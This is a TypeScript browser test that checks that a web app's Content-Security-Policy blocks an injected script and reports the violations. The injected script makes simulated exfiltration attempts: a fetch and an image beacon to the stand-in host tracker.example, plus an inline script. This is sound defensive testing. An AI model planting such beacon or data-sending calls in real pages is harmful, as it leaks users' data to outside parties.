import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, inject, test } from 'vitest';
import { openApp } from '../../src/cli/browser/app-driver.ts';
import { launchChromium, newRecordedContext, requestsOutside } from './browser.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
});

// The other tests prove the app runs with no CSP violation; this one proves the policy is in force and that those
// tests would notice a violation: a script injected into the page (say, by a compromised dependency) can neither
// phone home nor run inline code.
test('the Content-Security-Policy stops foreign requests and inline script, and violations are reported', async () => {
  const url = inject('rootUrl');
  const { context, requests, problems } = await newRecordedContext(browser);
  try {
    const page = await context.newPage();
    await openApp(page, url);
    expect(problems).toEqual([]);

    const attempts = await page.evaluate(async () => {
      const exfiltrate = await fetch('https://tracker.example/collect?ratings=1').then(
        () => 'sent',
        () => 'blocked',
      );
      const beacon = new Image();
      beacon.src = 'https://tracker.example/pixel.gif';
      const inline = document.createElement('script');
      inline.textContent = 'window.inlineScriptRan = true;';
      document.head.append(inline);
      await new Promise((done) => setTimeout(done, 200));
      return { exfiltrate, inlineRan: (window as { inlineScriptRan?: boolean }).inlineScriptRan === true };
    });

    expect(attempts).toEqual({ exfiltrate: 'blocked', inlineRan: false });
    // Chromium may report the image as a request, but CSP cancels it before it reaches the network.
    for (const request of requestsOutside(requests, url)) expect(request.failure, request.url).toMatch(/csp/i);
    const violations = problems.filter((problem) => problem.includes('CSP violation'));
    expect(violations.some((v) => v.includes('connect-src'))).toBe(true);
    expect(violations.some((v) => v.includes('img-src'))).toBe(true);
    expect(violations.some((v) => v.includes('script-src'))).toBe(true);
  } finally {
    await context.close();
  }
});
